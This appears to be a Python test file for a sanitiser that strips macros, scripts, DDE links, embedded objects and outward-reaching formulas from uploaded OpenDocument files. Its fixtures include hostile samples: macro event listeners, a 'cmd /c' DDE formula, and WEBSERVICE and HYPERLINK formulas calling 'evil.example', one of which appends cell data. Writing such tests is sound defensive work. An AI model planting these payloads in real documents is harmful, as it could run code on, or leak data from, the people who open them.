"""What acts by itself in an OpenDocument file is not stored."""

from io import BytesIO
from zipfile import ZipFile

import pytest

from core.uploads import FileRefusedError, clean_upload
from tests.core.documents.office import Parts, odf, stored, text_of
from tests.forum.sample_files import picture

KINDS = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
WEB = 'xlink:href="https://www.vng.nl/a?b=c"'
WELCOME = "<text:p>Welkom</text:p>"


def content_of(extension: str, body: str, parts: Parts | None = None) -> str:
    sent = odf(WELCOME + body, KINDS[extension], parts)
    kept = stored(extension, sent)
    assert "evil" not in text_of(kept)
    content = kept["content.xml"].decode()
    assert "Welkom" in content
    return content


LISTENER = (
    "<office:event-listeners><script:event-listener script:language='ooo:script' "
    "script:event-name='dom:load' xlink:href='{}' xlink:type='simple'/>"
    "</office:event-listeners>"
)


@pytest.mark.parametrize("extension", KINDS)
@pytest.mark.parametrize(
    "target",
    [
        "vnd.sun.star.script:evil.py$run?language=Python&amp;location=share",
        "vnd.sun.star.script:../../../evil?language=Basic&amp;location=document",
        "macro:///evil",
        "https://evil.example/a",
        "#evil",
        "",
    ],
)
def test_an_event_runs_nothing(extension: str, target: str) -> None:
    body = (
        f"<text:section>{LISTENER.format(target)}</text:section>"
        f"<draw:frame>{LISTENER.format(target)}</draw:frame>"
        f"<text:a {WEB}>{LISTENER.format(target)}</text:a>"
    )
    content = content_of(extension, body)
    assert "event-listener " not in content
    assert "www.vng.nl" in content


HOSTILE = [
    (
        "<office:scripts><office:script script:language='Basic'>"
        "evil</office:script></office:scripts>"
    ),
    "<text:script script:language='JavaScript'>evil</text:script>",
    "<text:script xlink:href='https://evil.example/a.js'/>",
    (
        "<office:forms><form:form xlink:href='https://evil.example'>"
        "<form:button form:id='evil'/></form:form></office:forms>"
    ),
    "<draw:control draw:control='evil'/>",
    "<draw:frame><draw:floating-frame xlink:href='https://evil.example'/></draw:frame>",
    (
        "<draw:frame><draw:plugin "
        "xlink:href='https://evil.example/a.swf'>"
        "<draw:param draw:value='evil'/></draw:plugin></draw:frame>"
    ),
    (
        "<draw:frame><draw:applet draw:code='evil' "
        "xlink:href='Evil/a.class'/></draw:frame>"
    ),
    "<draw:frame><draw:object xlink:href='file:///evil.ods'/></draw:frame>",
    "<draw:frame><draw:object-ole xlink:href='./Object 1'/></draw:frame>",
    "<draw:frame><draw:image xlink:href='https://evil.example/a.png'/></draw:frame>",
    "<draw:frame><draw:image xlink:href='../../evil.png'/></draw:frame>",
    "<presentation:sound xlink:href='file://evil/a.wav'/>",
    (
        "<table:table><table:table-source "
        "xlink:href='https://evil.example/a.ods'/></table:table>"
    ),
    (
        "<table:table-cell><table:cell-range-source "
        "xlink:href='file:///evil'/></table:table-cell>"
    ),
    (
        "<table:dde-links><table:dde-link><office:dde-source "
        "office:dde-application='evil'/></table:dde-link></table:dde-links>"
    ),
    (
        "<text:dde-connection-decls><text:dde-connection-decl "
        "office:dde-application='evil'/></text:dde-connection-decls>"
    ),
    "<table:database-source-sql table:sql-statement='evil'/>",
    "<table:database-source-query table:database-name='evil'/>",
    (
        "<table:data-pilot-source-service><x:y xmlns:x='evil'/>"
        "</table:data-pilot-source-service>"
    ),
    "<text:section><text:section-source xlink:href='file:///evil.odt'/></text:section>",
    (
        "<text:section><office:dde-source "
        "office:dde-application='evil' office:dde-item='a'/></text:section>"
    ),
    "<table:error-macro table:execute='true' script:name='evil'/>",
]


@pytest.mark.parametrize("body", HOSTILE)
def test_what_runs_or_reads_another_file_is_removed(body: str) -> None:
    check_removed("odt", body)


@pytest.mark.parametrize("extension", ["ods", "odp"])
def test_the_same_is_removed_from_sheets_and_slides(extension: str) -> None:
    check_removed(extension, "".join(HOSTILE))


def check_removed(extension: str, body: str) -> None:
    content = content_of(extension, body, {"Object 1": b"OLE"})
    for name in ("script:language", "form:", "plugin", "applet", "object"):
        assert f"<{name}" not in content
    assert "dde-source" not in content


def test_a_field_of_dde_or_a_macro_becomes_its_text() -> None:
    content = content_of(
        "odt",
        "<text:p><text:dde-connection text:connection-name='evil'>uitkomst"
        "</text:dde-connection> en <text:execute-macro text:name='evil'>knop"
        "</text:execute-macro></text:p>",
    )
    assert "<text:p>uitkomst en knop</text:p>" in content


@pytest.mark.parametrize(
    "target",
    [
        *("javascript:evil()", " javascript:evil()", "file:///evil", "//evil/share"),
        *("../evil.odt", "evil.exe", "vnd.sun.star.script:evil", "macro:evil"),
        *("ms-word:ofe|u|https://evil.example", "data:text/html,evil", ".uno:evil"),
        *("service:evil", "smb://evil/a", "vnd.sun.star.pkg:evil", "slot:evil"),
    ],
)
def test_a_link_elsewhere_than_the_web_becomes_text(target: str) -> None:
    body = (
        f"<text:p><text:a xlink:href='{target}'>lees dit</text:a></text:p>"
        f"<draw:a xlink:href='{target}'><draw:frame draw:name='kader'/></draw:a>"
    )
    content = content_of("odt", body)
    assert "lees dit" in content
    assert "kader" in content
    assert ":a " not in content


@pytest.mark.parametrize(
    "formula",
    [
        "of:=DDE(&quot;evil&quot;;&quot;a&quot;;&quot;b&quot;)",
        "of:=WEBSERVICE(&quot;https://evil.example&quot;)",
        "of:=COM.MICROSOFT.WEBSERVICE(&quot;https://evil.example&quot;)",
        "of:=['file:///evil.ods'#$Blad.A1]",
        "of:='https://evil.example/a.ods'#$Blad.A1",
        "of:=HYPERLINK(&quot;file:///evil&quot;;&quot;x&quot;)",
        "of:=HYPERLINK(&quot;https://evil.example/&quot;&amp;[.A1])",
        "msoxl:=cmd|'/c evil'!A1",
    ],
)
def test_a_formula_that_reaches_outside_becomes_its_value(formula: str) -> None:
    cell = (
        f'<table:table-cell xmlns:x="x" x:formula="of:=1" table:formula="{formula}" '
        'office:value="42"><text:p>42</text:p></table:table-cell>'
    )
    content = content_of("ods", cell)
    assert "table:formula" not in content
    assert 'office:value="42"' in content
    rule = f'<table:content-validation table:condition="{formula}"/>'
    assert "condition=" not in content_of("ods", rule)


@pytest.mark.parametrize(
    "formula",
    [
        "of:=SUM([.A1:.A3])*2",
        "of:=[$'Mijn blad'.A1]&amp;&quot;|&quot;",
        "of:=SUM({1;2|3;4})",
        "of:=HYPERLINK(&quot;https://www.vng.nl&quot;;&quot;VNG&quot;)",
    ],
)
def test_a_formula_of_the_sheet_itself_stays(formula: str) -> None:
    assert formula in content_of(
        "ods", f'<table:table-cell table:formula="{formula}"/>'
    )


@pytest.mark.parametrize(
    ("action", "target", "is_kept"),
    [
        ("next-page", "", True),
        ("show", "#Dia 2", True),
        ("show", "https://www.vng.nl/", True),
        ("show", "evil.odp", False),
        ("execute", "file:///evil.exe", False),
        ("execute", "https://evil.example/a", False),
        ("verb", "#evil", False),
        ("sound", "evil.wav", False),
    ],
)
def test_a_step_leads_to_another_slide_and_runs_nothing(
    action: str, target: str, *, is_kept: bool
) -> None:
    to = f"xlink:href='{target}'" if target else ""
    content = content_of(
        "odp",
        "<draw:page><draw:frame><office:event-listeners><presentation:event-listener "
        f"script:event-name='dom:click' presentation:action='{action}' {to}/>"
        "</office:event-listeners></draw:frame></draw:page>",
    )
    assert ("presentation:action" in content) is is_kept
    assert (target in content) is is_kept


@pytest.mark.parametrize("folder", ["Basic", "Scripts", "basic"])
def test_folders_of_macros_are_refused(folder: str) -> None:
    sent = odf(WELCOME, parts={f"{folder}/Standard/script-lb.xml": "<a/>"})
    with pytest.raises(FileRefusedError, match="macro"):
        clean_upload("a.odt", sent)


@pytest.mark.parametrize(
    "name",
    [
        "Configurations2/accelerator/current.xml",
        "Object 1",
        "evil.bin",
        "Dialogs/evil.xml",
        "database/evil.script",
        "META-INF/evil.xml",
        "Pictures/a/evil.png",
    ],
)
def test_parts_without_a_place_in_the_standard_are_left_out(name: str) -> None:
    parts = stored("odt", odf(WELCOME, parts={name: "<evil/>"}))
    assert name not in parts
    assert name not in parts["META-INF/manifest.xml"].decode()


def test_a_document_inside_is_cleaned_as_well() -> None:
    entry = (
        '<manifest:file-entry manifest:full-path="Object 1/" manifest:media-type='
        '"application/vnd.oasis.opendocument.chart"/>'
    )
    inner = (
        '<office:document-content xmlns:office="o" xmlns:script="s" xmlns:chart="c" '
        'xmlns:xlink="x"><chart:chart xlink:href=".."/><office:scripts>evil'
        "</office:scripts></office:document-content>"
    )
    sent = odf(
        "<draw:frame><draw:object xlink:href='./Object 1'/>"
        "<draw:image xlink:href='./ObjectReplacements/Object 1'/></draw:frame>",
        parts={
            "Object 1/content.xml": inner,
            "Object 1/evil.bin": b"evil",
            "ObjectReplacements/Object 1": b"beeld",
        },
        entries=entry,
    )
    parts = stored("odt", sent)
    assert "evil" not in text_of(parts)
    assert b"draw:object" in parts["content.xml"]
    assert b"ObjectReplacements" in parts["content.xml"]
    assert b'xlink:href=".."' in parts["Object 1/content.xml"]


@pytest.mark.parametrize("extension", KINDS)
def test_a_harmless_document_stays_as_it_is(extension: str) -> None:
    """Links, bookmarks, notes, comments, tables, sections, fields and pictures."""
    image = picture()
    body = (
        "<text:h><text:bookmark text:name='plek'/>Kop</text:h>"
        f"<text:p><text:a {WEB}>VNG</text:a><text:a xlink:href='#plek'>hier</text:a>"
        "<text:a xlink:href='mailto:a@vng.nl'>mail</text:a>"
        "<text:bookmark-ref text:ref-name='plek'>Kop</text:bookmark-ref>"
        "<text:note><text:note-body><text:p>Voetnoot</text:p></text:note-body>"
        "</text:note><office:annotation><text:p>Opmerking</text:p></office:annotation>"
        "<text:page-number>1</text:page-number></text:p>"
        "<text:section text:name='deel'><text:p>Deel</text:p></text:section>"
        "<text:table-of-content><text:index-body/></text:table-of-content>"
        "<table:table><table:table-row><table:table-cell table:formula='of:=1+1'/>"
        "</table:table-row></table:table><draw:frame>"
        "<draw:image xlink:href='Pictures/a.png'/></draw:frame>"
    )
    sent = odf(
        body,
        KINDS[extension],
        {
            "Pictures/a.png": image,
            "styles.xml": (
                "<office:document-styles xmlns:office='o'>"
                "stijl</office:document-styles>"
            ),
            "settings.xml": "<office:document-settings xmlns:office='o'/>",
        },
    )
    parts = stored(extension, sent)
    before = odf(body, KINDS[extension])
    with ZipFile(BytesIO(before)) as archive:
        told = archive.read("content.xml").replace(b"'", b'"')
    assert parts["content.xml"].split(b"\n", 1)[1].strip() == told
    assert parts["Pictures/a.png"] == image
    assert {"styles.xml", "settings.xml", "mimetype"} <= set(parts)
    assert next(iter(parts)) == "mimetype"
